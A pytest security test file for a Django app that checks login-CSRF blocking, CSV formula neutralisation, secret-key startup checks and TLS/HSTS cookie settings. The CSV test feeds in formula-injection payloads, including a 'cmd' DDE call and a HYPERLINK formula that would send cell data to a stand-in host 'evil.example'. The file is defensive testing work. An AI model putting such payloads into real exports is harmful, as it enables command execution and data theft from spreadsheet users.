"""Finding 9 of issue #9 (HTTP side): login CSRF, CSV formulas, the secret key, TLS settings."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import httpx
import pytest
import yaml
from django.contrib.auth import get_user_model
from django.test import Client

from tests.live import ROOT

EVIL = "http://evil.example"


@pytest.mark.django_db
def test_cross_site_text_plain_posts_neither_sign_in_register_nor_sign_out():
    get_user_model().objects.create_user(username="marie", password="pass-word-123")
    credentials = json.dumps({"username": "marie", "password": "pass-word-123"})
    # What a form or a no-cors fetch on another site can send: text/plain, the site's cookies.
    attacker = Client()
    signed_in = attacker.post("/api/auth/token", credentials, "text/plain", HTTP_ORIGIN=EVIL)
    assert signed_in.status_code in (400, 403) and "sessionid" not in signed_in.cookies
    also_json = attacker.post("/api/auth/token", credentials, "application/json", HTTP_ORIGIN=EVIL)
    assert also_json.status_code == 403 and "sessionid" not in also_json.cookies
    new_account = json.dumps({"username": "planted", "password": "pass-word-456"})
    registered = attacker.post("/api/auth/register", new_account, "text/plain", HTTP_ORIGIN=EVIL)
    assert registered.status_code in (400, 403) and "sessionid" not in registered.cookies
    assert not get_user_model().objects.filter(username="planted").exists()

    victim = Client()
    assert victim.post("/api/auth/token", credentials, "application/json").status_code == 200
    assert victim.get("/api/auth/me").status_code == 200
    victim.post("/api/auth/logout", "{}", "text/plain", HTTP_ORIGIN=EVIL)
    victim.post("/api/auth/logout", "", "text/plain", HTTP_SEC_FETCH_SITE="cross-site")
    assert victim.get("/api/auth/me").status_code == 200, "a foreign site signed the victim out"
    # The site's own pages still work (same origin, JSON).
    own = victim.post("/api/auth/logout", "{}", "application/json", HTTP_ORIGIN="http://testserver")
    assert own.status_code == 204 and victim.get("/api/auth/me").status_code == 401


@pytest.mark.django_db
def test_proposal_csv_export_neutralises_formulas(make_user, make_room):
    from proposals.models import Proposal
    from proposals.services import vote_cast
    from tests.proposals.conftest import proposal_make

    author = make_user("=cmd|' /C calc'!A0")
    room = make_room(author)
    created = proposal_make(
        author=author,
        room=room.id,
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        body="…",
        choices=['=HYPERLINK("http://evil.example?x="&A1,"clic")', "+1+1", "-2", "TAB", "\rCR", "@A1"],
    )
    proposal = Proposal.objects.get(id=created["id"])
    vote_cast(user=author, proposal_id=proposal.id, choice="c1")
    export = Client().get(f"/api/proposals/{proposal.id}/export")
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.content.decode())) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert '\'=HYPERLINK("http://evil.example?x="&A1,"clic")' in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def _settings_process(env: dict, code: str = "print('started')") -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO_")}
    script = "import django\ndjango.setup()\nfrom django.conf import settings\n" + code
    return subprocess.run(
        [sys.executable, "-c", script],
        cwd=ROOT,
        env={**base, "DJANGO_SETTINGS_MODULE": "config.settings", **env},
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_production_refuses_to_start_without_a_secret_key(tmp_path):
    refused = _settings_process({"DJANGO_DEBUG": "0"})
    assert refused.returncode != 0 and "DJANGO_SECRET_KEY" in refused.stderr
    key_file = tmp_path / "key"
    key_file.write_text("a-key-from-a-file-" + "x" * 40 + "\n")
    from_file = _settings_process({"DJANGO_SECRET_KEY_FILE": str(key_file)}, "print(settings.SECRET_KEY)")
    assert from_file.returncode == 0 and from_file.stdout.strip() == key_file.read_text().strip()
    debug = _settings_process({"DJANGO_DEBUG": "1"})
    assert debug.returncode == 0
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    for name in ("web1", "web2", "scheduler", "migrate"):
        value = compose["services"][name]["environment"]["DJANGO_SECRET_KEY"]
        assert "change-me" not in value and ":?" in value, (name, value)
    makefile = (ROOT / "Makefile").read_text()
    assert "DJANGO_SECRET_KEY_FILE=.dev-secret-key" in makefile


@pytest.mark.e2e
def test_behind_tls_hsts_secure_cookies_and_the_proxys_scheme(live_stack):
    stack = live_stack(
        env={"DJANGO_SECURE_PROXY_SSL_HEADER": "1", "DJANGO_HTTPS": "1", "DJANGO_HSTS_SECONDS": "31536000"}
    )
    ((name, _token),) = stack.create_users(1)
    stack.run_python(
        f"from accounts.models import User\nu = User.objects.get(username={name!r})\n"
        "u.set_password('pass-word-123'); u.save()\nprint('1')"
    )
    tls = {"X-Forwarded-Proto": "https"}
    with httpx.Client(base_url=stack.http_url(), timeout=30) as client:
        plain = client.get("/api/communes")
        assert plain.status_code == 301 and plain.headers["location"].startswith("https://")
        secure = client.get("/api/communes", headers=tls)
        assert secure.status_code == 200
        assert secure.headers["strict-transport-security"].startswith("max-age=31536000")
        signed_in = client.post("/api/auth/token", json={"username": name, "password": "pass-word-123"}, headers=tls)
        assert signed_in.status_code == 200
        cookie = signed_in.headers["set-cookie"]
        assert "sessionid=" in cookie and "Secure" in cookie and "HttpOnly" in cookie
